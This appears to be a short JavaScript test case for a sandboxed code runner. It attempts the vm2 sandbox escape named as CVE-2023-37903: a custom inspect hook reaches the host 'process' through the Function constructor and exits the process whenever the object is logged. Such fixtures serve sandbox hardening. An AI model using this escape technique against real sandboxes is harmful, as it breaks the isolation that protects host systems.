// tries: the way out of vm2 (CVE-2023-37903): code that whoever inspects its values would run
// expect: success error invalid_output
function run(input) {
  const inspect = Symbol.for("nodejs.util.inspect.custom");
  const evil = {
    [inspect]: (depth, options, show) => show.constructor("return process")().exit(1),
    [Symbol.toPrimitive]: () => "contained",
    toString: () => "contained",
    get [Symbol.toStringTag]() {
      throw this;
    },
  };
  console.log(evil);
  console.error("%o %s %j", evil, evil, evil);
  console.table?.([evil]);
  return String(evil);
}
